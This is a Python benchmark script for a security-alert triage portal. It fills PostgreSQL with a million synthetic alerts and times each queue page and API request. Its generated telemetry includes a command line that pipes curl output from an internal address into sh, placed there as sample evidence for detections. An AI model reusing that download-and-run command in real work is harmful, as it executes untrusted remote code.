"""Alert queue benchmark: server time of every queue page, filter, sort, grouping and the API list at 1,000,000 alerts.

    .venv/bin/python bench/queue.py [--pg postgres://postgres@127.0.0.1:5432/ads_bench_queue]
                                    [--alerts 1000000] [--runs 7] [--refill] [--budget-ms 150]

Fills a PostgreSQL database of its own (created if missing, migrated) with --alerts alerts and
their evidence, then asks Django for each queue request through django.test.Client, logged in
as the demo analyst, against the real URLs: middleware, filters, queries and template rendering
(or DRF serialization) included, no network. Each figure is the median of --runs requests after
one warm-up request. A database already holding exactly --alerts alerts is reused (re-runs take
seconds); --refill drops and rebuilds it. Only databases the bench created (it marks them with a
comment) are touched: pointed at any other, it stops before migrating anything.

The fill is one INSERT ... SELECT over generate_series per table, run inside PostgreSQL:
  - strategies and rules: the shipped library (validation.library.load_library), 30 of its rules;
    alerts per rule are skewed (a few noisy rules hold most alerts), the alert's strategy is its rule's;
  - severities skewed (medium and high most, critical ~4%); ~85% closed (with dispositions), the
    rest new / acknowledged / in progress; assignees among five analysts, new alerts mostly unassigned;
  - entities from a pool of ~200,000 pods (namespace/workload-hash-hash), containers (12 hex) and
    nodes, drawn skewed so entities recur; timestamps spread over 90 days;
  - evidence for every alert: one telemetry Event (canonical fields plus a raw record), one
    RuleMatch naming it (event_id and evidence_event_ids) and the AlertEvidence row linking the
    match to the alert, as triage.services.alerting links them. `count` says how many matches
    the alert grouped; only the first is stored (the alert page reads at most 50 anyway).
Secondary indexes are dropped during the fill and rebuilt after it (their definitions read
from the catalogue, so they are exactly the migrations'), foreign-key triggers are off for the
fill (session_replication_role = replica: the generated ids are consistent by construction),
then VACUUM ANALYZE.

Prints `page=<name> ms=<median>` per request (with the median time spent in SQL and the number
of queries, so a slow page says whether the database or the rendering is to blame), then `all_under_budget=yes|no`. Exits 1 when
any median is over --budget-ms (the issue's target: 150 ms at 1,000,000 alerts), so `make
bench-queue` fails loudly on a regression.
"""

from __future__ import annotations

import argparse
import os
import statistics
import sys
import time
import warnings
from datetime import UTC, datetime, timedelta
from pathlib import Path
from urllib.parse import urlencode, urlsplit

# Run as `python bench/queue.py`, this file's folder comes first on sys.path and the file would
# shadow the standard library's `queue` (psycopg, celery and channels import it): drop the folder.
# Everything imported above leaves `queue` alone; the rest is imported after this line.
_HERE = os.path.dirname(os.path.abspath(__file__))
sys.path[:] = [p for p in sys.path if os.path.abspath(p or os.curdir) != _HERE]

ROOT = Path(__file__).resolve().parent.parent
sys.path.insert(0, str(ROOT))

DEFAULT_PG = "postgres://postgres@127.0.0.1:5432/ads_bench_queue"
# The newest alert's last activity; the fill spreads 90 days before it.
END = datetime(2026, 11, 30, tzinfo=UTC)
DAYS = 90
RULES = 30
ENTITY_POOL = 200_000
ANALYSTS = ["alice", "bob", "carol", "dave", "erin"]
SOURCES = [("k8s-audit", "k8s_audit"), ("falco", "falco"), ("sysmon-linux", "linux_process")]
FILL_TABLES = ["triage_alert", "detections_rulematch", "telemetry_event", "triage_alertevidence"]


def _args() -> argparse.Namespace:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--pg", default=os.environ.get("PG_URL", DEFAULT_PG))
    parser.add_argument("--alerts", type=int, default=1_000_000)
    parser.add_argument("--runs", type=int, default=7)
    parser.add_argument("--refill", action="store_true", help="drop and refill the database even if it is filled")
    parser.add_argument("--budget-ms", type=float, default=150.0)
    return parser.parse_args()


# --------------------------------------------------------------------------- database


# Set on the databases this bench creates: the only ones it will drop and refill.
MARK = "filled by bench/queue.py"


def _admin(pg_url: str):
    import psycopg

    return psycopg.connect(pg_url.rsplit("/", 1)[0] + "/postgres", autocommit=True)


def _database_name(pg_url: str) -> str:
    return urlsplit(pg_url).path.lstrip("/")


def _ensure_database(pg_url: str) -> bool:
    """Create the database if missing; True when it was created (so it needs filling)."""
    name = _database_name(pg_url)
    with _admin(pg_url) as admin:
        exists = admin.execute("SELECT 1 FROM pg_database WHERE datname = %s", [name]).fetchone()
        if not exists:
            admin.execute(f'CREATE DATABASE "{name}"')
            admin.execute(f"COMMENT ON DATABASE \"{name}\" IS '{MARK}'")
    return not exists


def _refuse_foreign_database(pg_url: str) -> None:
    """Stop before touching (migrating, filling, dropping) a database this bench did not create."""
    name = _database_name(pg_url)
    with _admin(pg_url) as admin:
        found = admin.execute(
            "SELECT shobj_description(oid, 'pg_database') FROM pg_database WHERE datname = %s", [name]
        ).fetchone()
    if found is not None and found[0] != MARK:
        raise SystemExit(f"{name} was not created by bench/queue.py: not touching it (point --pg elsewhere)")


def _drop_database(pg_url: str) -> None:
    _refuse_foreign_database(pg_url)
    with _admin(pg_url) as admin:
        admin.execute(f'DROP DATABASE IF EXISTS "{_database_name(pg_url)}" WITH (FORCE)')


def _setup_django(pg_url: str) -> None:
    os.environ["DATABASE_URL"] = pg_url
    os.environ.pop("REDIS_URL", None)  # locmem cache, in-memory channel layer: the queue reads only PG
    os.environ.setdefault("DJANGO_SETTINGS_MODULE", "ads_portal.settings")
    import django

    django.setup()


def _alert_count() -> int:
    from django.db import connection

    with connection.cursor() as cursor:
        cursor.execute("SELECT count(*) FROM triage_alert")
        return cursor.fetchone()[0]


# --------------------------------------------------------------------------- the fill

# One row per alert, every attribute drawn once here so the four tables agree with each other.
PLAN_SQL = """
CREATE UNLOGGED TABLE bench_plan AS
SELECT i,
       r.rule_id, r.strategy_id, r.title AS rule_title,
       e.entity_type, e.entity, e.namespace, e.workload, e.source_id,
       t.first_seen, t.first_seen + (power(random(), 3) * interval '6 hours') AS last_seen,
       s.status, s.severity, 1 + floor(power(random(), 5) * 400)::int AS matches,
       random() AS u
FROM generate_series(1, %(n)s) AS i
CROSS JOIN LATERAL (SELECT floor(%(rules)s * power(random(), 2))::int + 1 + 0 * i AS k) AS pick
JOIN bench_rules r ON r.n = pick.k
CROSS JOIN LATERAL (
    SELECT floor(%(pool)s * power(random(), 3))::int + 0 * i AS k, random() + 0 * i AS kind
) AS ent
CROSS JOIN LATERAL (
    SELECT CASE WHEN ent.kind < 0.6 THEN 'pod' WHEN ent.kind < 0.9 THEN 'container' ELSE 'host' END AS entity_type,
           (ARRAY['default','kube-system','payments','web','monitoring','ci','checkout','search'])[ent.k %% 8 + 1]
               AS namespace,
           (ARRAY['api','worker','frontend','redis','postgres','nginx','batch','etl','auth','cart'])[ent.k %% 10 + 1]
               AS workload
) AS kind
CROSS JOIN LATERAL (
    SELECT kind.entity_type,
           CASE kind.entity_type
               WHEN 'pod' THEN kind.namespace || '/' || kind.workload || '-' || substr(md5(ent.k::text), 1, 10)
                    || '-' || substr(md5(ent.k::text), 11, 5)
               WHEN 'container' THEN substr(md5('c' || ent.k), 1, 12)
               ELSE 'node-' || lpad((ent.k %% 400)::text, 3, '0') || '.prod.internal'
           END AS entity,
           kind.namespace, kind.workload,
           (SELECT id FROM telemetry_source WHERE name = CASE kind.entity_type
               WHEN 'pod' THEN 'k8s-audit' WHEN 'container' THEN 'falco' ELSE 'sysmon-linux' END) AS source_id
) AS e
CROSS JOIN LATERAL (
    SELECT %(end)s::timestamptz - make_interval(days => %(days)s) * (1 - (i::float8 / %(n)s))
           - random() * interval '20 minutes' AS first_seen
) AS t
CROSS JOIN LATERAL (
    SELECT CASE WHEN x < 0.85 THEN 'closed' WHEN x < 0.92 THEN 'new' WHEN x < 0.96 THEN 'acknowledged'
                ELSE 'in_progress' END AS status,
           CASE WHEN y < 0.08 THEN 'informational' WHEN y < 0.30 THEN 'low' WHEN y < 0.70 THEN 'medium'
                WHEN y < 0.96 THEN 'high' ELSE 'critical' END AS severity
    FROM (SELECT random() + 0 * i AS x, random() + 0 * i AS y) AS draws
) AS s
"""

EVENT_SQL = """
INSERT INTO telemetry_event (
    id, source_id, batch_id, fingerprint, time, ingested_at, kind, action, message, host,
    container_id, container_name, container_image, pod, namespace, k8s_user, k8s_verb, k8s_resource,
    k8s_subresource, k8s_object_name, process_image, process_command_line, process_parent_image,
    process_parent_command_line, process_user, process_pid, src_ip, dst_ip, protocol, direction,
    dns_query, privileged, raw)
SELECT p.i, p.source_id, b.id, md5('event' || p.i), p.first_seen, p.first_seen + interval '2 seconds',
       CASE p.entity_type WHEN 'pod' THEN 'k8s_audit' WHEN 'container' THEN 'falco' ELSE 'process' END,
       CASE p.entity_type WHEN 'pod' THEN 'create' WHEN 'container' THEN 'execve' ELSE 'process_creation' END,
       p.rule_title, CASE WHEN p.entity_type = 'host' THEN p.entity ELSE 'node-' || (p.i %% 40) END,
       CASE WHEN p.entity_type = 'container' THEN p.entity ELSE '' END,
       CASE WHEN p.entity_type = 'container' THEN p.workload || '-' || (p.i %% 7) ELSE '' END,
       CASE WHEN p.entity_type = 'container' THEN 'ghcr.io/acme/' || p.workload || ':4.1.' || (p.i %% 9) ELSE '' END,
       CASE WHEN p.entity_type = 'pod' THEN split_part(p.entity, '/', 2) ELSE '' END,
       CASE WHEN p.entity_type = 'pod' THEN p.namespace ELSE '' END,
       CASE WHEN p.entity_type = 'pod' THEN 'system:serviceaccount:ci:deployer' ELSE '' END,
       CASE WHEN p.entity_type = 'pod' THEN 'create' ELSE '' END,
       CASE WHEN p.entity_type = 'pod' THEN 'pods' ELSE '' END,
       CASE WHEN p.entity_type = 'pod' THEN 'exec' ELSE '' END,
       CASE WHEN p.entity_type = 'pod' THEN split_part(p.entity, '/', 2) ELSE '' END,
       CASE WHEN p.entity_type = 'pod' THEN '' ELSE '/bin/bash' END,
       CASE WHEN p.entity_type = 'pod' THEN '' ELSE 'bash -c "curl -s http://10.0.' || (p.i %% 250) || '.7/x | sh"' END,
       CASE WHEN p.entity_type = 'pod' THEN '' ELSE '/usr/bin/containerd-shim' END,
       '', CASE WHEN p.entity_type = 'pod' THEN '' ELSE 'root' END,
       CASE WHEN p.entity_type = 'pod' THEN NULL ELSE 1000 + p.i %% 30000 END,
       '192.168.' || (p.i %% 256) || '.' || (1 + p.i %% 254), '', '', '', '',
       CASE WHEN p.entity_type = 'pod' THEN p.u < 0.1 END,
       jsonb_build_object('bench', true, 'seq', p.i, 'entity', p.entity, 'rule', p.rule_title,
                          'time', to_char(p.first_seen AT TIME ZONE 'UTC', 'YYYY-MM-DD"T"HH24:MI:SS.US"Z"'))
FROM bench_plan p JOIN telemetry_ingestbatch b ON b.source_id = p.source_id
"""

MATCH_SQL = """
INSERT INTO detections_rulematch (id, rule_id, dedup_key, event_id, evidence_event_ids, time, entity_type, entity,
                                  fields, created_at)
SELECT i, rule_id, 'e:' || i, i, jsonb_build_array(i), first_seen, entity_type, entity,
       jsonb_build_object('entity', entity), first_seen + interval '3 seconds'
FROM bench_plan
"""

ALERT_SQL = """
INSERT INTO triage_alert (id, rule_id, strategy_id, title, severity, status, disposition, close_reason, entity_type,
                          entity, group_key, first_seen, last_seen, count, assignee_id, case_id, source_id,
                          acknowledged_at, closed_at, closed_by_id, created_at, updated_at)
SELECT p.i, p.rule_id, p.strategy_id, left(p.rule_title || ' on ' || p.entity, 512), p.severity, p.status,
       CASE WHEN p.status <> 'closed' THEN '' WHEN p.u < 0.70 THEN 'false_positive'
            WHEN p.u < 0.90 THEN 'benign_true_positive' ELSE 'true_positive' END,
       CASE WHEN p.status = 'closed' THEN 'Reviewed: expected activity of the deploy pipeline' ELSE '' END,
       p.entity_type, p.entity, 'r' || p.rule_id || ':' || md5(p.entity_type || ':' || p.entity) || ':' || p.i,
       p.first_seen, p.last_seen, p.matches, a.user_id, NULL, p.source_id,
       CASE WHEN p.status <> 'new' THEN p.last_seen + interval '10 minutes' END,
       CASE WHEN p.status = 'closed' THEN p.last_seen + interval '2 hours' END,
       CASE WHEN p.status = 'closed' THEN a.user_id END,
       p.first_seen, p.last_seen + interval '2 hours'
FROM bench_plan p
CROSS JOIN LATERAL (
    SELECT CASE WHEN p.status = 'new' AND p.u < 0.7 THEN NULL
                ELSE (SELECT array_agg(id ORDER BY id) FROM bench_analysts)[1 + p.i %% 5] END AS user_id
) AS a
"""

EVIDENCE_SQL = "INSERT INTO triage_alertevidence (id, alert_id, match_id) SELECT i, i, i FROM bench_plan"


def _secondary_indexes(cursor) -> list[tuple[str, str]]:
    """(name, CREATE INDEX statement) of every index on the filled tables not backing a constraint."""
    cursor.execute(
        """
        SELECT i.indexrelid::regclass::text, pg_get_indexdef(i.indexrelid)
        FROM pg_index i
        WHERE i.indrelid = ANY(%s::regclass[])
          AND NOT EXISTS (SELECT 1 FROM pg_constraint c WHERE c.conindid = i.indexrelid)
        """,
        [FILL_TABLES],
    )
    return cursor.fetchall()


def _step(label: str, started: float) -> float:
    now = time.perf_counter()
    print(f"fill_step={label} s={now - started:.1f}", flush=True)
    return now


def fill(total: int) -> None:
    from django.contrib.auth.models import Group, User
    from django.db import connection, transaction

    from accounts.roles import ANALYST
    from accounts.services import create_demo_users
    from detections.models import DetectionRule
    from telemetry.models import IngestBatch, Source
    from validation.library import load_library

    began = time.perf_counter()
    started = began
    load_library()
    create_demo_users(password="ads-demo-2026")
    analysts = Group.objects.get(name=ANALYST)
    for name in ANALYSTS:
        user, _ = User.objects.get_or_create(username=name, defaults={"email": f"{name}@example.com"})
        user.groups.add(analysts)
    for name, kind in SOURCES:
        source, _ = Source.objects.get_or_create(name=name, defaults={"format": kind})
        IngestBatch.objects.get_or_create(source=source, channel=IngestBatch.Channel.API)
    rules = list(DetectionRule.objects.filter(strategies__isnull=False).order_by("pk").distinct()[:RULES]) or list(
        DetectionRule.objects.order_by("pk")[:RULES]
    )
    started = _step("library_users_sources", started)

    with transaction.atomic(), connection.cursor() as cursor:
        cursor.execute("SET LOCAL synchronous_commit = off")
        cursor.execute("SET LOCAL maintenance_work_mem = '256MB'")
        cursor.execute("SET LOCAL work_mem = '64MB'")
        cursor.execute("SET LOCAL session_replication_role = replica")
        cursor.execute("SELECT setseed(0.42)")
        cursor.execute("DROP TABLE IF EXISTS bench_plan, bench_rules, bench_analysts")
        cursor.execute("CREATE TEMP TABLE bench_rules (n int, rule_id bigint, strategy_id bigint, title text)")
        for n, rule in enumerate(rules, start=1):
            strategy = rule.strategies.order_by("pk").first()
            cursor.execute(
                "INSERT INTO bench_rules VALUES (%s, %s, %s, %s)",
                [n, rule.pk, strategy.pk if strategy else None, rule.title],
            )
        cursor.execute(
            "CREATE TEMP TABLE bench_analysts AS SELECT id FROM auth_user WHERE username = ANY(%s)", [ANALYSTS]
        )
        cursor.execute(PLAN_SQL, {"n": total, "rules": len(rules), "pool": ENTITY_POOL, "end": END, "days": DAYS})
        started = _step("plan", started)
        indexes = _secondary_indexes(cursor)
        for name, _ in indexes:
            cursor.execute(f"DROP INDEX {name}")
        for label, sql in (
            ("events", EVENT_SQL),
            ("matches", MATCH_SQL),
            ("alerts", ALERT_SQL),
            ("evidence", EVIDENCE_SQL),
        ):
            cursor.execute(sql, {})  # params given, so the statements' %% read as %
            started = _step(label, started)
        for _, statement in indexes:
            cursor.execute(statement)
        started = _step("indexes", started)
        for table in FILL_TABLES:
            cursor.execute(f"SELECT setval(pg_get_serial_sequence('{table}', 'id'), (SELECT max(id) FROM {table}))")  # noqa: S608 (our constants)
        cursor.execute("DROP TABLE bench_plan")
    with connection.cursor() as cursor:
        # What autovacuum would have done to a table that grew over 90 days: statistics for the
        # planner and a visibility map (index-only scans), so a fresh fill is not flattered or penalised.
        cursor.execute(f"VACUUM ANALYZE {', '.join(FILL_TABLES)}")
        cursor.execute("ANALYZE")
    _step("vacuum_analyze", started)
    print(f"fill_alerts={total} fill_s={time.perf_counter() - began:.1f}", flush=True)


# --------------------------------------------------------------------------- the requests


def _requests() -> list[tuple[str, str, dict]]:
    """(name, path, query) of every queue request measured; cursors found by walking the real pages."""
    from django.contrib.auth.models import User

    from detections.models import DetectionRule, Strategy
    from triage.models import Alert

    busy_rule = Alert.objects.filter(status="new").values_list("rule_id", flat=True).first()
    quiet_rule = DetectionRule.objects.filter(alerts__isnull=False).order_by("-pk").values_list("pk", flat=True).first()
    strategy = Strategy.objects.filter(alerts__isnull=False).order_by("pk").values_list("slug", flat=True).first()
    pod = Alert.objects.filter(entity_type="pod").order_by("-last_seen").values_list("entity", flat=True).first()
    pod_fragment = pod.split("/", 1)[1][-16:-6]  # part of the pod's hash: what an analyst pastes
    week_ago = (END - timedelta(days=7)).isoformat()
    month_ago = (END - timedelta(days=30)).isoformat()
    analyst = User.objects.get(username=ANALYSTS[0]).username
    queue = "/triage/alerts/"
    api = "/api/v1/alerts/"
    everything = "new,acknowledged,in_progress,closed"
    requests = [
        ("queue_default", queue, {}),
        ("queue_all_statuses", queue, {"status": everything}),
        ("status_new", queue, {"status": "new"}),
        ("status_closed", queue, {"status": "closed"}),
        ("severity_critical", queue, {"severity": "critical"}),
        ("severity_high_critical_all", queue, {"severity": "high,critical", "status": everything}),
        ("disposition_true_positive", queue, {"status": "closed", "disposition": "true_positive"}),
        ("strategy", queue, {"strategy": strategy}),
        ("rule_busy", queue, {"rule": busy_rule}),
        ("rule_quiet_all", queue, {"rule": quiet_rule, "status": everything}),
        ("assignee", queue, {"assignee": analyst}),
        ("assignee_none", queue, {"assignee": "none"}),
        ("entity_search", queue, {"entity": pod_fragment, "status": everything}),
        ("entity_search_common", queue, {"entity": "payments/", "status": everything}),
        ("entity_exact", queue, {"entity_exact": pod, "status": everything}),
        ("source", queue, {"source": "falco"}),
        ("time_range_week", queue, {"since": week_ago, "status": everything}),
        ("time_range_old_day", queue, {"since": month_ago, "until": (END - timedelta(days=29)).isoformat()}),
        ("text_search", queue, {"text": "shell", "status": everything}),
        ("text_search_two_words", queue, {"text": f"container {pod_fragment[:6]}", "status": everything}),
        ("sort_oldest", queue, {"sort": "last_seen"}),
        ("sort_first_seen", queue, {"sort": "-first_seen"}),
        ("sort_most_matches", queue, {"sort": "-count"}),
        ("sort_most_matches_all", queue, {"sort": "-count", "status": everything}),
        ("group_rule", queue, {"group": "rule"}),
        ("group_entity", queue, {"group": "entity"}),
        ("group_strategy", queue, {"group": "strategy"}),
        ("group_rule_all", queue, {"group": "rule", "status": everything}),
        ("group_entity_all", queue, {"group": "entity", "status": everything}),
        ("htmx_partial", queue, {"severity": "high", "_htmx": "1"}),
        ("api_list", api, {}),
        ("api_list_filtered", api, {"status": "new", "severity": "high,critical", "strategy": strategy}),
        ("api_list_entity_search", api, {"entity": pod_fragment}),
        ("api_list_oldest", api, {"ordering": "last_seen"}),
    ]
    return [(name, path, {k: v for k, v in query.items() if v is not None}) for name, path, query in requests]


def _follow(client, path: str, query: dict, pages: int, *, api: bool) -> dict:
    """The query of the page `pages` deep, reached by following each page's next cursor."""
    import re

    current = dict(query)
    for _ in range(pages):
        response = client.get(path, current)
        if api:
            following = response.json()["next"]
            if not following:
                break
            current = dict(q.split("=", 1) for q in urlsplit(following).query.split("&"))
            current = {k: _unquote(v) for k, v in current.items()}
        else:
            found = re.findall(r'href="\?([^"]*cursor=[^"]*)">Older', response.content.decode())
            if not found:
                break
            current = {
                k: _unquote(v) for k, v in (q.split("=", 1) for q in found[0].replace("&amp;", "&").split("&") if q)
            }
    return current


def _unquote(value: str) -> str:
    from urllib.parse import unquote_plus

    return unquote_plus(value)


def _far_back_cursor(sort_keys=("-last_seen", "-id")) -> str:
    """A cursor 80 days back, as a page link would carry it: the keyset of an old alert."""
    from triage.models import Alert
    from triage.selectors import _cursor_values, encode_cursor

    old = Alert.objects.filter(last_seen__lt=END - timedelta(days=80)).order_by("-last_seen", "-id").first()
    return encode_cursor(_cursor_values(old, sort_keys))


class _SqlClock:
    """An execute wrapper adding up the time a request spends waiting for the database."""

    def __init__(self):
        self.ms = 0.0
        self.queries = 0

    def __call__(self, execute, sql, params, many, context):
        started = time.perf_counter()
        try:
            return execute(sql, params, many, context)
        finally:
            self.ms += (time.perf_counter() - started) * 1000
            self.queries += 1


def measure(runs: int) -> list[tuple[str, float]]:
    from django.contrib.auth.models import User
    from django.db import connection
    from django.test import Client

    client = Client()
    client.force_login(User.objects.get(username="analyst"))
    requests = _requests()
    requests += [
        ("deep_page_50", "/triage/alerts/", _follow(client, "/triage/alerts/", {}, 49, api=False)),
        (
            "deep_page_50_all",
            "/triage/alerts/",
            _follow(client, "/triage/alerts/", {"status": "new,acknowledged,in_progress,closed"}, 49, api=False),
        ),
        ("deep_cursor_80_days_back", "/triage/alerts/", {"cursor": _far_back_cursor()}),
        (
            "deep_cursor_80_days_back_all",
            "/triage/alerts/",
            {"cursor": _far_back_cursor(), "status": "new,acknowledged,in_progress,closed"},
        ),
        ("api_list_page_50", "/api/v1/alerts/", _follow(client, "/api/v1/alerts/", {}, 49, api=True)),
    ]
    results = []
    for name, path, query in requests:
        query = dict(query)
        headers = {}
        if query.pop("_htmx", None):
            headers = {"HTTP_HX_REQUEST": "true", "HTTP_HX_TARGET": "queue-results"}
        url = f"{path}?{urlencode(query)}" if query else path
        timings, sql_timings = [], []
        for attempt in range(runs + 1):
            sql = _SqlClock()
            with connection.execute_wrapper(sql):
                started = time.perf_counter()
                response = client.get(url, **headers)
                elapsed = (time.perf_counter() - started) * 1000
            if response.status_code != 200:
                raise SystemExit(f"page={name} answered {response.status_code}: {url}\n{response.content[:600]!r}")
            if attempt:  # the first request warms caches and connections
                timings.append(elapsed)
                sql_timings.append(sql.ms)
        median = statistics.median(timings)
        results.append((name, median))
        print(
            f"page={name} ms={median:.1f} sql_ms={statistics.median(sql_timings):.1f} queries={sql.queries}",
            flush=True,
        )
    return results


def main() -> int:
    args = _args()
    # The bench serves no static files; WhiteNoise's warning about an uncollected folder is noise here.
    warnings.filterwarnings("ignore", message="No directory at", module="django.core.handlers.base")
    _refuse_foreign_database(args.pg)
    if args.refill:
        _drop_database(args.pg)
    created = _ensure_database(args.pg)
    _setup_django(args.pg)
    from django.core.management import call_command

    call_command("migrate", verbosity=0, interactive=False)
    if created or _alert_count() != args.alerts:
        if not created:
            print(f"database holds {_alert_count()} alerts, not {args.alerts}: refilling", flush=True)
            from django.db import connections

            connections.close_all()
            _drop_database(args.pg)
            _ensure_database(args.pg)
            call_command("migrate", verbosity=0, interactive=False)
        fill(args.alerts)
    else:
        print(f"reusing {args.pg} with {args.alerts} alerts (--refill rebuilds it)", flush=True)
    results = measure(args.runs)
    over = [name for name, ms in results if ms >= args.budget_ms]
    worst = max(results, key=lambda r: r[1])
    print(
        f"all_under_budget={'no' if over else 'yes'} budget_ms={args.budget_ms:.0f} pages={len(results)} "
        f"slowest={worst[0]} slowest_ms={worst[1]:.1f}" + (f" over={','.join(over)}" if over else "")
    )
    return 1 if over else 0


if __name__ == "__main__":
    sys.exit(main())
